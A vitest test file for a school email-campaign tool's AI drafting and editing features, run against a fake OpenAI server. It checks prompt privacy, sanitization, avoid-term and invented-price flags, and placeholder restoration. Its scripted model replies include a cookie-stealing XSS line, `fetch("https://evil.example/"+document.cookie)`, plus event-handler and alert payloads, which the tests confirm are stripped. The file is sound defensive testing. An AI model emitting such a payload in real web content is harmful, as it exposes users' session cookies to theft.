import { CAMPAIGN_MESSAGES } from '@lantern/contracts';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startFakeOpenAi, type FakeOpenAi } from '../../providers/ai/fake-openai';
import { bearer, createTestApp, loginToken, type TestApp } from '../../test/test-app';
import { createCampaign, leadsIn, makeSegment, uploadKnowledge } from './campaign-test-helpers';

// The AI path against the local fake OpenAI server: what the prompt carries, and what is done
// with a model that returns script tags, drops a placeholder, uses an avoid term or invents a price.

let fake: FakeOpenAi;
let t: TestApp;
let token: string;
let autism: string;

const HANDBOOK = `# Admissions
## Open day
Our spring open day is on Saturday March 14 from 10am to 1pm, with tours of the sensory room.
`;

const call = (method: 'GET' | 'POST', url: string, payload?: unknown) =>
  t.app.inject({
    method,
    url,
    headers: bearer(token),
    ...(payload === undefined ? {} : { payload: payload as object }),
  });
const chatRequests = () => fake.requests.filter((r) => r.path === '/v1/chat/completions');
const promptOf = (i = -1) =>
  (chatRequests().at(i)!.body.messages as { content: string }[]).map((m) => m.content).join('\n---\n');

beforeAll(async () => {
  fake = await startFakeOpenAi();
  t = await createTestApp({ AI_BASE_URL: fake.url, AI_CHAT_MODEL: 'fake-chat', AI_TIMEOUT_MS: '2000' });
  token = await loginToken(t.app);
  await t.app.inject({
    method: 'PUT',
    url: '/api/widget/settings',
    headers: bearer(token),
    payload: { school_name: 'Brightwater Academy' },
  });
  autism = await makeSegment(t, token, 'Autism support', {
    description: 'Families of autistic children aged 5 to 11',
  });
  await leadsIn(t, token, [autism], 3, () => ({
    children: [
      {
        name: 'Zephyrine',
        age: 7,
        grade: '2nd Grade',
        special_needs: ['Selective mutism'],
        current_support: [],
      },
    ],
  }));
  await uploadKnowledge(t, token, 'Admissions.md', HANDBOOK);
});
afterAll(async () => {
  await t.close();
  await fake.close();
});
beforeEach(() => {
  fake.requests.length = 0;
});

describe('AI drafts', () => {
  it("prompts with the voice, the level, the segment, the school and the passages, never a child's details", async () => {
    fake.scriptReplies(
      JSON.stringify({
        subject: 'Join us for our spring open day',
        headline: 'Spring open day',
        content_html:
          '<p>Dear {{parent_name}},</p><p>Our open day is on Saturday March 14 from 10am to 1pm. Tuition is only $18,000 a year.</p>' +
          '<script>fetch("https://evil.example/"+document.cookie)</script><p onmouseover="x()">We guarantees a place for {{child_name}}.</p>',
      }),
    );
    const res = await call('POST', '/api/campaigns/generate-content', {
      segment_ids: [autism],
      prompt: 'Invite families to the spring open day',
      use_knowledge_base: true,
      personalization_level: 'light',
      voice_settings: {
        tone: 'warm and calm',
        perspective: 'fellow parents',
        style: 'short sentences',
        preferred_length: '150-250',
        cta_style: 'soft invitation',
        avoid_terms: ['guarantees', 'cure'],
        include_elements: ['next steps'],
      },
    });
    expect(res.statusCode, res.body).toBe(200);
    const prompt = promptOf();
    for (const words of [
      'Brightwater Academy',
      'Tone: warm and calm.',
      'Perspective: write as fellow parents.',
      'Style: short sentences.',
      'Call to action style: soft invitation.',
      'Length: 150-250 words.',
      'Never use these terms: guarantees; cure.',
      'Include: next steps.',
      'Personalization level: light',
      'Autism support - Families of autistic children aged 5 to 11',
      'Request: Invite families to the spring open day',
      'Saturday March 14 from 10am to 1pm',
      'Never invent prices',
    ])
      expect(prompt, words).toContain(words);
    // No child's own name or diagnosis reaches the model: only placeholders do.
    expect(prompt).not.toContain('Zephyrine');
    expect(prompt).not.toContain('Selective mutism');
    expect(prompt).not.toContain('{{special_needs}}'); // light personalization

    const { results, mode } = res.json();
    expect(mode).toBe('ai');
    const [draft] = results;
    expect(draft.subject).toBe('Join us for our spring open day');
    expect(draft.content_html).not.toMatch(/<script|onmouseover|evil\.example/);
    expect(draft.content_html).toContain('{{parent_name}}');
    expect(draft.content_html).toContain('{{unsubscribe}}');
    const flags = draft.generation_metadata.flags as { kind: string; message: string }[];
    expect(draft.generation_metadata.generated_by).toBe('ai');
    expect(flags.filter((f) => f.kind === 'html_removed')).toHaveLength(1);
    expect(flags.find((f) => f.kind === 'avoid_term')?.message).toContain('"guarantees"');
    // The invented price is flagged; the date from the passage is not.
    expect(flags.filter((f) => f.kind === 'unsupported_fact').map((f) => f.message)).toEqual([
      '"$18,000" is not in the knowledge base passages or your prompt: check it before sending.',
    ]);
  });

  it('falls back to an offline draft, and says so, when the model fails or answers nonsense', async () => {
    fake.failNext(1, 500, '/v1/chat/completions');
    const failed = (
      await call('POST', '/api/campaigns/generate-content', { segment_ids: [autism], prompt: 'Open day' })
    ).json();
    expect(failed.mode).toBe('offline');
    const messages = failed.results[0].generation_metadata.flags.map((f: { message: string }) => f.message);
    expect(messages.some((m: string) => m.startsWith('The AI provider failed'))).toBe(true);
    expect(messages).toContain(CAMPAIGN_MESSAGES.offlineDraftNote);

    fake.scriptReplies('Sure! Here is your email: Dear parent...');
    const nonsense = (
      await call('POST', '/api/campaigns/generate-content', { segment_ids: [autism], prompt: 'Open day' })
    ).json();
    expect(nonsense.results[0].generation_metadata.generated_by).toBe('offline');
  });
});

describe('AI edits', () => {
  const original =
    '<p>Dear {{parent_name}},</p><p>We would love {{child_name}} to visit on Saturday March 14.</p><p><a href="{{unsubscribe}}">Unsubscribe</a></p>';

  it('saves the edit as a new version, restoring a dropped unsubscribe link and flagging the rest', async () => {
    const campaign = await createCampaign(t, token, {
      name: 'Open day',
      subject: 'Open day',
      content_html: original,
      segment_id: autism,
    });
    fake.scriptReplies(
      JSON.stringify({
        content_html:
          '<p>Dear {{parent_name}},</p><p>Come on Saturday March 14! A place costs $500 and we offer guarantees.</p><script>alert(1)</script>',
        change_summary: 'Made the invitation more enthusiastic.',
      }),
    );
    const res = await call('POST', `/api/campaigns/${campaign.id}/edit-with-ai`, {
      instruction: 'Make it more enthusiastic',
      personalization_level: 'medium',
    });
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json();
    expect(body.change_summary).toBe('Made the invitation more enthusiastic.');
    expect(body.version_number).toBe(2);
    expect(body.content_html).not.toContain('<script');
    expect(body.content_html).toContain('href="{{unsubscribe}}"');
    const kinds = body.flags.map((f: { kind: string }) => f.kind);
    expect(kinds).toEqual(
      expect.arrayContaining([
        'html_removed',
        'placeholder_restored',
        'placeholder_dropped',
        'avoid_term',
        'unsupported_fact',
      ]),
    );
    expect(body.flags.find((f: { kind: string }) => f.kind === 'placeholder_dropped').message).toContain(
      '{{child_name}}',
    );
    expect(body.flags.find((f: { kind: string }) => f.kind === 'unsupported_fact').message).toContain('$500');
    // The campaign's own date is not a new fact.
    expect(body.flags.filter((f: { message: string }) => f.message.includes('March 14'))).toEqual([]);
    expect(promptOf()).toContain('Instruction: Make it more enthusiastic');
    expect(promptOf()).toContain(original);

    const history = (await call('GET', `/api/campaigns/${campaign.id}/edit-history`)).json();
    expect(history.history[0]).toMatchObject({
      version_number: 2,
      source: 'ai',
      instruction: 'Make it more enthusiastic',
      change_summary: 'Made the invitation more enthusiastic.',
      personalization_level: 'medium',
    });
    const v1 = (await call('GET', `/api/campaigns/${campaign.id}/versions/1`)).json();
    expect(v1.content_html).toBe(original);
  });

  it("answers with the spec's words when the model fails, and changes nothing", async () => {
    const campaign = await createCampaign(t, token, {
      name: 'Open day',
      subject: 'Open day',
      content_html: original,
      segment_id: autism,
    });
    fake.failNext(1, 503, '/v1/chat/completions');
    const failed = await call('POST', `/api/campaigns/${campaign.id}/edit-with-ai`, {
      instruction: 'Shorter',
    });
    expect(failed.statusCode).toBe(502);
    expect(failed.json().error).toBe(CAMPAIGN_MESSAGES.aiEditFailed);
    fake.scriptReplies('{"nothing": true}');
    const empty = await call('POST', `/api/campaigns/${campaign.id}/edit-with-ai`, {
      instruction: 'Shorter',
    });
    expect(empty.statusCode).toBe(502);
    const after = (await call('GET', `/api/campaigns/${campaign.id}`)).json().campaign;
    expect(after).toMatchObject({ content_html: original, current_version_number: 1 });
  });
});
